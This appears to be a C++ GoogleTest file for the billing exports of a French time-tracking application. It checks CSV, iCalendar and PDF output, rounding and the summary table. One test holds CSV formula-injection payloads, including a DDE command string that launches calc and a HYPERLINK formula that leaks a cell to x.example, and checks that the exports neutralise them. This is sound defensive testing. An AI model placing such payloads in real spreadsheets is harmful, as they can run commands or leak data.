// What the consultation window adds for billing, used as a user would:
// the status line, the summary table, rounding, and the exports (CSV read
// back field by field, iCalendar parsed back with libical, PDF pages).

#include <gtest/gtest.h>
#include <libical/ical.h>
#include <sqlite3.h>

#include <QAccessible>
#include <QBarCategoryAxis>
#include <QBarSet>
#include <QChartView>
#include <QCheckBox>
#include <QComboBox>
#include <QCoreApplication>
#include <QDateTimeEdit>
#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QFileInfo>
#include <QFontMetrics>
#include <QHorizontalBarSeries>
#include <QLabel>
#include <QLegendMarker>
#include <QLineEdit>
#include <QMenu>
#include <QPieSeries>
#include <QPieSlice>
#include <QProcess>
#include <QProgressDialog>
#include <QPushButton>
#include <QRegularExpression>
#include <QSettings>
#include <QSortFilterProxyModel>
#include <QStandardPaths>
#include <QTableView>
#include <QTemporaryDir>
#include <QTextDocument>
#include <QTimeZone>
#include <QTimer>
#include <QToolTip>
#include <QValueAxis>
#include <ctime>
#include <memory>

#include "common/AccessibleEvents.h"
#include "common/Fakes.h"
#include "common/TempDatabase.h"
#include "common/Unprivileged.h"
#include "consult/BillingPanel.h"
#include "consult/ChartsView.h"
#include "consult/CsvExport.h"
#include "consult/IcsExport.h"
#include "consult/PrintDocument.h"
#include "consult/SummaryView.h"
#include "consult/Unit5.h"
#include "controls/ColorButton.h"
#include "controls/ReportView.h"
#include "data/Unit2.h"
#include "data/engine/sqlite/SqliteBackend.h"
#include "platform/Error.h"
#include "platform/Regional.h"
#include "settings/outils.h"

using namespace tavix;
using test::TempDatabase;

namespace {

using Export = BillingPanel::Export;

// RFC 4180 with ";" between fields, as a spreadsheet reads it. Anything
// the RFC does not allow fails the test.
std::vector<QStringList> readCsv(const QByteArray& bytes) {
    EXPECT_TRUE(bytes.startsWith("\xEF\xBB\xBF")) << "no byte-order mark";
    const QString s = QString::fromUtf8(bytes.mid(3));
    std::vector<QStringList> records;
    QStringList record;
    QString field;
    qsizetype i = 0;
    const qsizetype n = s.size();
    while (i < n) {
        if (s[i] == u'"') {
            ++i;
            for (;;) {
                if (i >= n) {
                    ADD_FAILURE() << "unterminated quoted field";
                    return records;
                }
                if (s[i] == u'"') {
                    if (i + 1 < n && s[i + 1] == u'"') {
                        field += u'"';
                        i += 2;
                        continue;
                    }
                    ++i;
                    break;
                }
                field += s[i++];
            }
        } else {
            while (i < n && s[i] != u';' && s[i] != u'\r' && s[i] != u'\n') {
                EXPECT_NE(s[i], u'"') << "quote inside an unquoted field";
                EXPECT_NE(s[i], u'\t') << "tab inside an unquoted field";
                field += s[i++];
            }
        }
        if (i < n && s[i] == u';') {
            record << field;
            field.clear();
            ++i;
        } else if (i + 1 < n && s[i] == u'\r' && s[i + 1] == u'\n') {
            record << field;
            field.clear();
            records.push_back(record);
            record.clear();
            i += 2;
        } else {
            ADD_FAILURE() << "record not ended by CR LF at " << i;
            return records;
        }
    }
    EXPECT_TRUE(field.isEmpty() && record.isEmpty()) << "last record not ended by CR LF";
    return records;
}

// What a text field reads back as: a spreadsheet would run one that starts
// like a formula, so the file holds it behind an apostrophe.
QString asStored(const QString& text) {
    static const QString formula = QStringLiteral("=+-@\t\r");
    return !text.isEmpty() && formula.contains(text.front()) ? u'\'' + text : text;
}

QByteArray readAll(const QString& path) {
    QFile f(path);
    return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray();
}

// Awkward values, each in turn as user, activity, client and comment.
const QStringList kTricky{
    "Dupont \"&\" fils",
    "A;B",
    "ligne 1\r\nligne 2",
    "tab\there",
    "emoji 😀 ok",
    "",
    "\"",
    ";",
    " espaces ",
    "seul\nLF",
    "=1+1",
    "virgule, point-virgule; antislash \\",
};

class BillingTest : public ::testing::Test {
protected:
    void SetUp() override {
        QSettings(QSettings::NativeFormat, QSettings::UserScope, "MOLVERAN", "TAVIX").clear();
        QString sql =
            "INSERT INTO activites (\"USER\", SURVEILLANCES, CLIENTS, DEBUT, FIN, DUREE, "
            "COMMENTAIRE) VALUES ";
        auto q = [](const QString& s) { return "'" + QString(s).replace("'", "''") + "'"; };
        for (qsizetype i = 0; i < kTricky.size(); ++i) {
            const DateTime start(QDate(2026, 3, 2 + int(i)), QTime(8, 0, 0));
            const qint64 duration = 900 * (i + 1) + i;  // some off the quarter
            entries.push_back({i + 1, kTricky[(i + 1) % kTricky.size()],
                               kTricky[(i + 2) % kTricky.size()], kTricky[i], start,
                               start.addSecs(duration), duration,
                               kTricky[(i + 3) % kTricky.size()]});
            const Entry& e = entries.back();
            sql += QString("%1(%2, %3, %4, %5, %6, %7, %8)")
                       .arg(i ? "," : "", q(e.user), q(e.activity), q(e.client), q(e.start.toIso()),
                            q(e.end.toIso()))
                       .arg(e.duration)
                       .arg(q(e.comment));
        }
        db.exec(sql);
        module = std::make_unique<TDataModule2>();
        module->DatabasePath = db.path();
        ASSERT_TRUE(module->OpenDatabase());
        form = std::make_unique<TForm5>();
        form->show();
        billing = form->Billing;
    }
    void TearDown() override {
        form.reset();
        module.reset();
    }

    // "&Voir" over March, every client and activity; waits for the totals
    // unless told not to.
    void view(bool all = false, bool wait = true) {
        form->dateDebut->setDateTime(QDateTime(QDate(2026, 3, 1), QTime(10, 0)));
        form->DateFin->setDateTime(QDateTime(QDate(2026, 3, 31), QTime(10, 0)));
        form->chkTout->setChecked(all);
        form->Commenter->click();
        if (wait) waitTotals();
    }

    // Lets the event loop read the totals' slices to the end.
    void waitTotals() {
        QElapsedTimer guard;
        guard.start();
        while (billing->totalsRunning() && guard.elapsed() < 30000)
            QCoreApplication::processEvents();
        ASSERT_FALSE(billing->totalsRunning());
    }

    // count one-minute entries for one client on 20 March.
    void addBatch(const QString& client, int count) {
        db.exec(QString("INSERT INTO activites (\"USER\", SURVEILLANCES, CLIENTS, DEBUT, FIN, "
                        "DUREE) WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n "
                        "WHERE i < %1) SELECT 'lot', 'Saisie', '%2', '2026-03-20 08:00:00', "
                        "'2026-03-20 08:01:00', 60 FROM n")
                    .arg(count)
                    .arg(client));
    }
    static QString batchStatus(int count) {
        return totalsText(count, 60 * count) + " — du 01/03/2026 au 31/03/2026";
    }

    // Statements of the window's connection stepped and not yet done.
    int busyStatements() const {
        int busy = 0;
        sqlite3* handle = db::sqlite::handleOf(module->ADOConnection1);
        for (sqlite3_stmt* s = sqlite3_next_stmt(handle, nullptr); s;
             s = sqlite3_next_stmt(handle, s))
            busy += sqlite3_stmt_busy(s) ? 1 : 0;
        return busy;
    }

    QString exported(Export kind, const QString& name) {
        const QString path = out.filePath(name);
        files.answers.push_back(path);
        billing->exportTo(kind);
        return path;
    }

    TempDatabase db;
    QTemporaryDir out;
    test::FakeClock clock{DateTime(QDate(2026, 4, 1), QTime(9, 30))};
    test::ScriptedBoxes boxes;
    test::ScriptedFiles files;
    std::vector<Entry> entries;
    std::unique_ptr<TDataModule2> module;
    std::unique_ptr<TForm5> form;
    BillingPanel* billing = nullptr;
};

TEST_F(BillingTest, StatusLineTellsTheSelectionAndTheReportIsUnchanged) {
    EXPECT_TRUE(billing->StatusLine->text().isEmpty());
    EXPECT_FALSE(billing->ExportButton->isEnabled());
    view();
    const QString report = form->RichEdit1->text();
    qint64 total = 0;
    for (const Entry& e : entries) total += e.duration;
    EXPECT_EQ(billing->StatusLine->text(),
              totalsText(qsizetype(entries.size()), total) + " — du 01/03/2026 au 31/03/2026");
    EXPECT_TRUE(billing->StatusLine->text().startsWith("12 entrées — 19:31:06 — 19,52 h"));
    EXPECT_TRUE(report.endsWith("\t\t19:31:06"));
    EXPECT_TRUE(billing->ExportButton->isEnabled());

    // "Tout": the period is that of the entries themselves.
    view(true);
    EXPECT_TRUE(billing->StatusLine->text().endsWith("— du 02/03/2026 au 13/03/2026"));
    // One client whose name holds quotes and a semicolon.
    form->cbClients->setCurrentText("Dupont \"&\" fils");
    view();
    EXPECT_TRUE(billing->StatusLine->text().startsWith("1 entrée — 00:15:00 — 0,25 h"));
}

TEST_F(BillingTest, TotalsComeWithTheReportAndAreReadInSlicesOnTheirOwn) {
    addBatch("Client lot", 3000);
    form->cbClients->setCurrentText("Client lot");
    form->reportSliceMs = 0;  // 256 entries a slice
    view(false, false);
    // The click returns without the totals, which the report's reading fills.
    EXPECT_TRUE(form->reportRunning());
    EXPECT_TRUE(billing->totalsRunning());
    EXPECT_EQ(billing->StatusLine->text(), "Calcul des totaux…");
    EXPECT_EQ(billing->totals().entries(), 0);
    while (form->reportRunning()) QCoreApplication::processEvents();
    EXPECT_TRUE(form->RichEdit1->text().endsWith("\t\t50:00:00"))
        << form->RichEdit1->text().right(80).toStdString();
    // The report read, its totals are there with no second reading.
    EXPECT_FALSE(billing->totalsRunning());
    EXPECT_EQ(billing->StatusLine->text(), batchStatus(3000));
    EXPECT_EQ(billing->summaryView()->Table->model()->rowCount(), 1);
    EXPECT_EQ(busyStatements(), 0);

    // Read again on their own (the entries changed), they come in slices.
    billing->totalsSliceMs = 0;  // one entry a slice
    billing->reread();
    for (int i = 0; i < 3; ++i) QCoreApplication::processEvents();
    EXPECT_TRUE(billing->totalsRunning()) << "read in one go";
    EXPECT_EQ(billing->summaryView()->Table->model()->rowCount(), 0);

    // A summary export cannot wait for the slices: it reads the rest itself.
    const auto records = readCsv(readAll(exported(Export::SummaryCsv, "synthese.csv")));
    EXPECT_FALSE(billing->totalsRunning());
    ASSERT_EQ(records.size(), 3u);
    EXPECT_EQ(records.back()[1], "3000");
    EXPECT_EQ(billing->StatusLine->text(), batchStatus(3000));
    EXPECT_EQ(billing->summaryView()->Table->model()->rowCount(), 1);
    EXPECT_EQ(busyStatements(), 0);
}

TEST_F(BillingTest, TotalsAreThoseOfTheLastClick) {
    addBatch("Lot A", 3000);
    addBatch("Lot B", 2000);
    enum class Change { Box, Click, Rounding };
    struct Case {
        const char* name;
        Change change;  // while the report of Lot A is being read
        int expected;
        qint64 billed;  // each one-minute entry as billed
    };
    for (const Case& c :
         {Case{"box changed", Change::Box, 3000, 60}, Case{"new click", Change::Click, 2000, 60},
          Case{"rounding chosen", Change::Rounding, 3000, 900}}) {
        SCOPED_TRACE(c.name);
        billing->totalsSliceMs = 0;
        form->reportSliceMs = 0;
        form->cbClients->setCurrentText("Lot A");
        view(false, false);
        for (int i = 0; i < 3; ++i) QCoreApplication::processEvents();
        ASSERT_TRUE(billing->totalsRunning());
        form->cbClients->setCurrentText("Lot B");
        if (c.change == Change::Click) view(false, false);
        if (c.change == Change::Rounding) {
            // Totals the report was filling by the old rule are not used.
            QComboBox* box = billing->summaryView()->RoundingBox;
            box->setCurrentIndex(box->findData("15 haut"));
        }
        billing->totalsSliceMs = 30;
        form->reportSliceMs = 30;
        waitTotals();
        if (c.change != Change::Rounding) {
            EXPECT_EQ(billing->StatusLine->text(), batchStatus(c.expected));
        }
        EXPECT_EQ(billing->totals().entries(), c.expected);
        EXPECT_EQ(billing->totals().rounded(), c.expected * c.billed);
        EXPECT_EQ(busyStatements(), 0);
    }
}

TEST_F(BillingTest, LeavingMidwayEndsTheReadingCleanly) {
    addBatch("Client lot", 3000);
    enum class Way { Close, Purge, Destroy };
    for (const Way way : {Way::Close, Way::Purge, Way::Destroy}) {
        SCOPED_TRACE(int(way));
        if (!form) {
            form = std::make_unique<TForm5>();
            billing = form->Billing;
        }
        form->show();
        billing->totalsSliceMs = 0;
        form->reportSliceMs = 0;
        form->cbClients->setCurrentText("Client lot");
        view(false, false);
        for (int i = 0; i < 3; ++i) QCoreApplication::processEvents();
        ASSERT_TRUE(billing->totalsRunning());
        switch (way) {
            case Way::Close:
                form->close();
                EXPECT_FALSE(billing->totalsRunning());
                EXPECT_TRUE(billing->StatusLine->text().isEmpty());
                EXPECT_FALSE(billing->ExportButton->isEnabled());
                break;
            case Way::Purge:
                // Like the report, the totals shown are those of the click.
                boxes.answers = {true, true};
                form->ColorButton1->click();
                EXPECT_FALSE(billing->totalsRunning());
                EXPECT_EQ(billing->StatusLine->text(), batchStatus(3000));
                EXPECT_EQ(db.scalar("SELECT COUNT(*) FROM activites"), "0");
                addBatch("Client lot", 3000);
                break;
            case Way::Destroy:
                form.reset();
                break;
        }
        EXPECT_EQ(busyStatements(), 0);
        for (int i = 0; i < 3; ++i) QCoreApplication::processEvents();
    }
}

TEST_F(BillingTest, SummaryTableSortsByKeyboardAndRoundingIsRemembered) {
    view();
    billing->SummaryButton->click();
    SummaryView* s = billing->summaryView();
    EXPECT_TRUE(s->isVisible());
    EXPECT_FALSE(form->Panel3->isVisible());
    QTableView* t = s->Table;
    EXPECT_EQ(t->accessibleName(), "Synthèse");
    EXPECT_EQ(t->model()->rowCount(), 12);  // twelve clients
    EXPECT_EQ(t->model()->headerData(2, Qt::Horizontal).toString(), "Durée");

    // "Durée, décroissant" from the sort list: largest first.
    s->SortBox->setCurrentIndex(5);
    emit s->SortBox->activated(5);
    EXPECT_EQ(t->model()->index(0, 2).data().toString(), "03:00:11");
    EXPECT_EQ(t->model()->index(11, 2).data().toString(), "00:15:00");

    s->RoundingBox->setCurrentIndex(s->RoundingBox->findData("15 haut"));
    EXPECT_EQ(ReadSetting(kRoundingSetting), "15 haut");
    waitTotals();
    EXPECT_EQ(t->model()->columnCount(), 7);
    EXPECT_EQ(t->model()->index(0, 5).data().toString(), "03:15:00");
    EXPECT_TRUE(billing->StatusLine->text().endsWith(
        "— facturé : 22:15:00 — 22,25 h, arrondi au quart d'heure supérieur, entrée par entrée"))
        << billing->StatusLine->text().toStdString();

    // A new window starts with the stored rounding.
    form = std::make_unique<TForm5>();
    form->show();
    EXPECT_EQ(form->Billing->summaryView()->RoundingBox->currentData().toString(), "15 haut");
    EXPECT_EQ(form->Billing->totals().rounding(), (Rounding{15, false}));

    // The editing grid takes the place of the summary.
    billing = form->Billing;
    view();
    billing->SummaryButton->click();
    form->Button2->click();
    EXPECT_TRUE(form->Panel4->isVisible());
    EXPECT_FALSE(billing->summaryPage()->isVisible());
    EXPECT_FALSE(billing->SummaryButton->isEnabled());
    form->Button2->click();
    EXPECT_TRUE(form->Panel3->isVisible());
    EXPECT_TRUE(billing->SummaryButton->isEnabled());
}

TEST_F(BillingTest, EntriesCsvReadsBackFieldByField) {
    view();
    const QString path = exported(Export::EntriesCsv, "entrees.csv");
    // A new file gets the ordinary permissions, not the temporary file's.
    EXPECT_EQ(QFileInfo(path).permissions() & QFile::ReadOther, QFile::ReadOther);
    const auto records = readCsv(readAll(path));
    ASSERT_EQ(records.size(), entries.size() + 1);
    EXPECT_EQ(records[0].size(), 11);
    EXPECT_EQ(records[0][3], "Début (ISO 8601)");
    for (size_t i = 0; i < entries.size(); ++i) {
        const Entry& e = entries[i];
        const QStringList& r = records[i + 1];
        ASSERT_EQ(r.size(), 11) << i;
        EXPECT_EQ(r[0], asStored(e.user));
        EXPECT_EQ(r[1], asStored(e.activity));
        EXPECT_EQ(r[2], asStored(e.client));
        // ISO 8601 with the zone's offset: the same instant as the local time.
        EXPECT_EQ(QDateTime::fromString(r[3], Qt::ISODate),
                  QDateTime(e.start.date(), e.start.time()));
        EXPECT_EQ(QDateTime::fromString(r[4], Qt::ISODate), QDateTime(e.end.date(), e.end.time()));
        EXPECT_TRUE(r[3].contains(
            QRegularExpression("^\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d[+-]\\d\\d:\\d\\d$")));
        EXPECT_EQ(r[5], regional::dateTimeToText(e.start));
        EXPECT_EQ(r[6], regional::dateTimeToText(e.end));
        EXPECT_EQ(r[7].toLongLong(), e.duration);
        EXPECT_EQ(r[8], hmsText(e.duration));
        EXPECT_EQ(QString(r[9]).replace(',', '.').toDouble(),
                  std::round(e.duration / 36.0) / 100.0);
        EXPECT_EQ(r[10], asStored(e.comment)) << i;
    }
}

// Names and comments someone else may have typed, starting with each
// character a spreadsheet reads as a formula: both exports write them as
// text (apostrophe first, quoted); the program's own figures stay numbers.
TEST_F(BillingTest, TextsThatLookLikeFormulasAreWrittenAsText) {
    const QStringList formulas{"=1+1",
                               "=HYPERLINK(\"http://x.example/?\"&A1,\"y\")",
                               "=cmd|' /C calc'!A0",
                               "+33 6 12",
                               "-2+3",
                               "@SUM(1+1)",
                               "\t=1+1",
                               "\r=1+1",
                               "\r\n=1+1"};
    db.exec("DELETE FROM activites");
    for (qsizetype i = 0; i < formulas.size(); ++i) {
        auto q = [](QString s) { return "'" + s.replace("'", "''") + "'"; };
        db.exec(QString("INSERT INTO activites (\"USER\", SURVEILLANCES, CLIENTS, DEBUT, FIN, "
                        "DUREE, COMMENTAIRE) VALUES (%1, %1, %1, '2026-03-%2 08:00:00', "
                        "'2026-03-%2 08:10:00', 600, %1)")
                    .arg(q(formulas[i]))
                    .arg(10 + i));
    }
    view();
    const auto isNumber = QRegularExpression("^\\d+(,\\d+)?$");
    const auto isHms = QRegularExpression("^\\d+:\\d\\d:\\d\\d$");

    const auto rows = readCsv(readAll(exported(Export::EntriesCsv, "entrees.csv")));
    ASSERT_EQ(rows.size(), formulas.size() + 1);
    for (qsizetype i = 0; i < formulas.size(); ++i) {
        const QStringList& r = rows[i + 1];
        ASSERT_EQ(r.size(), 11);
        for (int text : {0, 1, 2, 10}) EXPECT_EQ(r[text], "'" + formulas[i]) << i << " " << text;
        EXPECT_EQ(r[7], "600");
        EXPECT_EQ(r[8], "00:10:00");
        EXPECT_EQ(r[9], "0,17");
    }

    // The summary by client, and by activity with rounding on.
    for (const auto& [grouping, rounding] :
         {std::pair{Grouping::Client, ""}, std::pair{Grouping::Activity, "15 haut"}}) {
        billing->summaryView()->GroupingBox->setCurrentIndex(int(grouping));
        billing->summaryView()->RoundingBox->setCurrentIndex(
            billing->summaryView()->RoundingBox->findData(rounding));
        waitTotals();
        const auto sums = readCsv(readAll(exported(Export::SummaryCsv, "synthese.csv")));
        ASSERT_EQ(sums.size(), formulas.size() + 2);
        QStringList keys;
        for (size_t i = 1; i + 1 < sums.size(); ++i) {
            keys << sums[i][0];
            for (qsizetype f = 1; f < sums[i].size(); ++f)
                EXPECT_TRUE(isNumber.match(sums[i][f]).hasMatch() ||
                            isHms.match(sums[i][f]).hasMatch())
                    << sums[i][f].toStdString();
        }
        QStringList expected;
        for (const QString& f : formulas) expected << "'" + f;
        keys.sort();
        expected.sort();
        EXPECT_EQ(keys, expected);
        EXPECT_EQ(sums.back()[2], "5400");
    }

    // A figure is written as it is, even negative; the same text is not.
    CsvWriter csv;
    csv.record(
        {CsvWriter::Field("-1,50"), CsvWriter::figure("-1,50"), CsvWriter::figure("-0:30:00")});
    EXPECT_EQ(readCsv(csv.take()), (std::vector<QStringList>{{"'-1,50", "-1,50", "-0:30:00"}}));
}

TEST_F(BillingTest, SummaryCsvHoldsEachLineAndTheTotal) {
    view();
    billing->summaryView()->GroupingBox->setCurrentIndex(int(Grouping::Day));
    billing->summaryView()->RoundingBox->setCurrentIndex(
        billing->summaryView()->RoundingBox->findData("30 proche"));
    waitTotals();
    const auto records = readCsv(readAll(exported(Export::SummaryCsv, "synthese.csv")));
    ASSERT_EQ(records.size(), entries.size() + 3);  // titles, days, total, rule
    EXPECT_EQ(records.back(),
              QStringList{"Arrondi : arrondi à la demi-heure la plus proche, entrée par entrée"});
    EXPECT_EQ(records[0], (QStringList{"Jour", "Entrées", "Durée (s)", "Durée (h:mm:ss)",
                                       "Durée (heures)", "Part (%)", "Durée arrondie (s)",
                                       "Durée arrondie (h:mm:ss)", "Durée arrondie (heures)"}));
    qint64 seconds = 0, rounded = 0;
    for (size_t i = 0; i < entries.size(); ++i) {
        const QStringList& r = records[i + 1];
        EXPECT_EQ(r[0], regional::dateToText(entries[i].start.date()));
        EXPECT_EQ(r[2].toLongLong(), entries[i].duration);
        seconds += r[2].toLongLong();
        rounded += r[6].toLongLong();
        EXPECT_EQ(r[6].toLongLong() % 1800, 0);
    }
    const QStringList& total = records[records.size() - 2];
    EXPECT_EQ(total[0], "Total");
    EXPECT_EQ(total[1], "12");
    EXPECT_EQ(total[2].toLongLong(), seconds);
    EXPECT_EQ(total[6].toLongLong(), rounded);
    EXPECT_EQ(total[5], "100,0");
}

TEST_F(BillingTest, AnExistingFileIsReplacedOnlyWhenTheUserAgrees) {
    view();
    const QString path = out.filePath("garde.csv");
    QFile f(path);
    ASSERT_TRUE(f.open(QIODevice::WriteOnly));
    f.write("ancien");
    f.close();
    boxes.answers.push_back(false);
    files.answers.push_back(path);
    billing->exportTo(Export::EntriesCsv);
    ASSERT_EQ(boxes.confirms.size(), 1);
    EXPECT_EQ(boxes.confirms[0],
              "Le fichier « " + path + " » existe déjà.\r\nVoulez-vous le remplacer ?");
    EXPECT_EQ(readAll(path), "ancien");
    boxes.answers.push_back(true);
    files.answers.push_back(path);
    billing->exportTo(Export::EntriesCsv);
    EXPECT_TRUE(readAll(path).startsWith("\xEF\xBB\xBFUtilisateur;"));
    // A replaced file keeps its permissions.
    EXPECT_EQ(QFileInfo(path).permissions() & QFile::ReadOther, QFile::ReadOther);
    ASSERT_TRUE(QFile::setPermissions(path, QFile::ReadOwner | QFile::WriteOwner));
    boxes.answers.push_back(true);
    files.answers.push_back(path);
    billing->exportTo(Export::SummaryCsv);
    EXPECT_TRUE(
        readAll(path).startsWith("\xEF\xBB\xBF"
                                 "Client;"));
    EXPECT_EQ(QFileInfo(path).permissions() & (QFile::ReadOther | QFile::ReadGroup), 0);
    // The dialog was asked for a file to save, not one to open.
    ASSERT_FALSE(files.requests.empty());
    EXPECT_TRUE(files.requests.back().save);
    EXPECT_FALSE(files.requests.back().mustExist);
}

TEST_F(BillingTest, AFailingWriteNamesTheFileAndLeavesTheOldOne) {
    view();
    const auto all = QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner | QFile::ReadOther |
                     QFile::WriteOther | QFile::ExeOther;
    const auto readOnly = QFile::ReadOwner | QFile::ExeOwner | QFile::ReadOther | QFile::ExeOther;
    ASSERT_TRUE(QFile::setPermissions(db.folder(), all));
    ASSERT_TRUE(QFile::setPermissions(db.path(), all));
    const QString folder = out.filePath("lecture-seule");
    ASSERT_TRUE(QDir().mkpath(folder));
    for (const Export kind :
         {Export::EntriesCsv, Export::SummaryCsv, Export::EntriesIcs, Export::Pdf}) {
        const QString path = folder + "/ancien.txt";
        ASSERT_TRUE(QFile::setPermissions(folder, all));
        QFile f(path);
        ASSERT_TRUE(f.open(QIODevice::WriteOnly));
        f.write("ancien");
        f.close();
        ASSERT_TRUE(QFile::setPermissions(out.path(), all));
        ASSERT_TRUE(QFile::setPermissions(folder, readOnly));
        boxes.answers.push_back(true);
        {
            test::Unprivileged user;
            try {
                billing->exportFile(kind, path);
                ADD_FAILURE() << int(kind) << ": written into a read-only folder";
            } catch (const Error& e) {
                EXPECT_TRUE(e.message().contains(path)) << e.message().toStdString();
            }
        }
        ASSERT_TRUE(QFile::setPermissions(folder, all));
        EXPECT_EQ(readAll(path), "ancien") << int(kind);
        EXPECT_EQ(QDir(folder).entryList(QDir::Files | QDir::Hidden), QStringList{"ancien.txt"});
        QFile::remove(path);
    }
}

// One event of a parsed calendar.
struct Event {
    QString uid, summary, description, tzid;
    icaltimetype start, end;
    qint64 startUtc = 0;  // seconds since 1970, through the event's own zone
};

// A text as it comes back: one LF per line break; libical's reader drops
// blanks at both ends of a value (its writer keeps them).
QString lf(QString s) { return s.replace("\r\n", "\n").trimmed(); }

std::vector<Event> parseIcs(const QByteArray& text) {
    std::vector<Event> out;
    icalcomponent* cal = icalparser_parse_string(text.constData());
    EXPECT_NE(cal, nullptr);
    if (!cal) return out;
    EXPECT_EQ(icalcomponent_isa(cal), ICAL_VCALENDAR_COMPONENT);
    EXPECT_EQ(icalcomponent_count_errors(cal), 0);
    for (icalcomponent* ev = icalcomponent_get_first_component(cal, ICAL_VEVENT_COMPONENT); ev;
         ev = icalcomponent_get_next_component(cal, ICAL_VEVENT_COMPONENT)) {
        Event e;
        e.uid = QString::fromUtf8(icalcomponent_get_uid(ev));
        e.summary = QString::fromUtf8(icalcomponent_get_summary(ev));
        const char* d = icalcomponent_get_description(ev);
        e.description = d ? QString::fromUtf8(d) : QString();
        icalproperty* p = icalcomponent_get_first_property(ev, ICAL_DTSTART_PROPERTY);
        icalparameter* z = icalproperty_get_first_parameter(p, ICAL_TZID_PARAMETER);
        e.tzid = z ? QString::fromUtf8(icalparameter_get_tzid(z)) : QString();
        e.start = icalcomponent_get_dtstart(ev);
        e.end = icalcomponent_get_dtend(ev);
        const icaltimezone* zone = icaltime_get_timezone(e.start);
        EXPECT_TRUE(zone || e.tzid.isEmpty()) << "TZID without its VTIMEZONE";
        e.startUtc = icaltime_as_timet_with_zone(e.start, zone);
        out.push_back(e);
    }
    if (icalcomponent* tz = icalcomponent_get_first_component(cal, ICAL_VTIMEZONE_COMPONENT)) {
        EXPECT_NE(icalcomponent_get_first_property(tz, ICAL_TZID_PROPERTY), nullptr);
    }
    icalcomponent_free(cal);
    return out;
}

TEST(IcsTest, EventsParseBackWithTheirZoneTextsAndStableUids) {
    const DateTime stamp(QDate(2026, 4, 1), QTime(9, 30));
    std::vector<Entry> entries;
    for (qsizetype i = 0; i < kTricky.size(); ++i) {
        const DateTime start(QDate(2026, 3, 28 + int(i) % 3),
                             QTime(23, 30));  // across the DST change
        entries.push_back({i, "u", kTricky[i], kTricky[(i + 1) % kTricky.size()], start,
                           start.addSecs(3600), 3600,
                           kTricky[(i + 2) % kTricky.size()] + QString(100, u'é')});
    }
    entries.push_back(entries[0]);  // an identical entry: its own UID
    for (const char* zone : {"Europe/Paris", "UTC"}) {
        IcsWriter w(zone, stamp);
        for (const Entry& e : entries) w.add(e);
        const QByteArray text = w.take();
        for (const QByteArray& line : text.split('\n'))
            EXPECT_LE(line.size(), 76) << "unfolded line";  // 75 octets and the CR
        const std::vector<Event> events = parseIcs(text);
        ASSERT_EQ(events.size(), entries.size()) << zone;
        QSet<QString> uids;
        for (size_t i = 0; i < events.size(); ++i) {
            const Entry& e = entries[i];
            const Event& ev = events[i];
            uids.insert(ev.uid);
            EXPECT_EQ(ev.summary, lf(e.activity + " – " + e.client)) << i;
            EXPECT_EQ(ev.description, lf(e.comment)) << i;
            if (QByteArray(zone) == "UTC") {
                EXPECT_TRUE(ev.tzid.isEmpty());
                EXPECT_TRUE(icaltime_is_utc(ev.start));
            } else {
                EXPECT_EQ(ev.tzid, "Europe/Paris");
                EXPECT_EQ(ev.start.hour, 23);
                EXPECT_EQ(ev.start.day, e.start.date().day());
                EXPECT_EQ(ev.end.hour, 0);
                // The same instant as the wall clock in Paris.
                const QDateTime paris(e.start.date(), e.start.time(), QTimeZone("Europe/Paris"));
                EXPECT_EQ(ev.startUtc, paris.toSecsSinceEpoch()) << i;
            }
        }
        EXPECT_EQ(uids.size(), qsizetype(entries.size())) << "UIDs must differ";
        // Exported again, later, with another comment: the same UIDs.
        IcsWriter again(zone, stamp.addDays(3));
        for (Entry e : entries) {
            e.comment = "changé";
            again.add(e);
        }
        const std::vector<Event> later = parseIcs(again.take());
        for (size_t i = 0; i < later.size(); ++i) EXPECT_EQ(later[i].uid, events[i].uid);
    }
}

// The system's zone is the one written, and the stamp is that moment in UTC.
TEST(IcsTest, LocalZoneOfTheSystemAndStampInUtc) {
    const QByteArray saved = qgetenv("TZ");
    const bool had = qEnvironmentVariableIsSet("TZ");
    qputenv("TZ", "Europe/Paris");
    tzset();
    IcsWriter w(QString(), DateTime(QDate(2026, 4, 1), QTime(9, 30)));
    w.add({1, "u", "Saisie", "Zoé", DateTime(QDate(2026, 4, 1), QTime(8, 0)),
           DateTime(QDate(2026, 4, 1), QTime(9, 0)), 3600, ""});
    const QByteArray text = w.take();
    if (had)
        qputenv("TZ", saved);
    else
        qunsetenv("TZ");
    tzset();
    EXPECT_TRUE(text.contains("\r\nDTSTAMP:20260401T073000Z\r\n")) << text.constData();
    EXPECT_TRUE(text.contains("\r\nTZID:Europe/Paris\r\n"));
    EXPECT_TRUE(text.contains("DTSTART;TZID=Europe/Paris:20260401T080000"));
}

TEST_F(BillingTest, CalendarExportHoldsEveryEntry) {
    view();
    const auto events = parseIcs(readAll(exported(Export::EntriesIcs, "cal.ics")));
    ASSERT_EQ(events.size(), entries.size());
    for (size_t i = 0; i < events.size(); ++i)
        EXPECT_EQ(events[i].summary, lf(entries[i].activity + " – " + entries[i].client));
}

TEST_F(BillingTest, PdfHasItsPagesAndEveryEntry) {
    // Enough entries for several pages.
    for (int i = 0; i < 150; ++i)
        db.exec(
            QString("INSERT INTO activites (\"USER\", SURVEILLANCES, CLIENTS, DEBUT, FIN, DUREE, "
                    "COMMENTAIRE) VALUES ('u', 'Saisie', 'Zoé', '2026-03-20 %1:00:00', "
                    "'2026-03-20 %1:30:00', 1800, 'note%2')")
                .arg(i % 14 + 10)
                .arg(i, 3, 10, QChar('0')));
    view();
    const QString path = exported(Export::Pdf, "releve.pdf");
    const QByteArray pdf = readAll(path);
    ASSERT_TRUE(pdf.startsWith("%PDF-"));
    const qsizetype pages = QString::fromLatin1(pdf).count(QRegularExpression("/Type\\s*/Page\\b"));
    EXPECT_GE(pages, 3);
    const QString pdftotext = QStandardPaths::findExecutable("pdftotext");
    if (pdftotext.isEmpty()) GTEST_SKIP() << "pdftotext is not installed: text not checked";
    QProcess p;
    p.start(pdftotext, {"-layout", path, "-"});
    ASSERT_TRUE(p.waitForFinished(60000));
    const QString text = QString::fromUtf8(p.readAllStandardOutput());
    for (int i = 0; i < 150; ++i)
        EXPECT_TRUE(text.contains(QString("note%1").arg(i, 3, 10, QChar('0')))) << i;
    EXPECT_TRUE(text.contains(QString("Page 1 / %1").arg(pages)));
    EXPECT_TRUE(text.contains("Client : tous — Surveillance : toutes"));
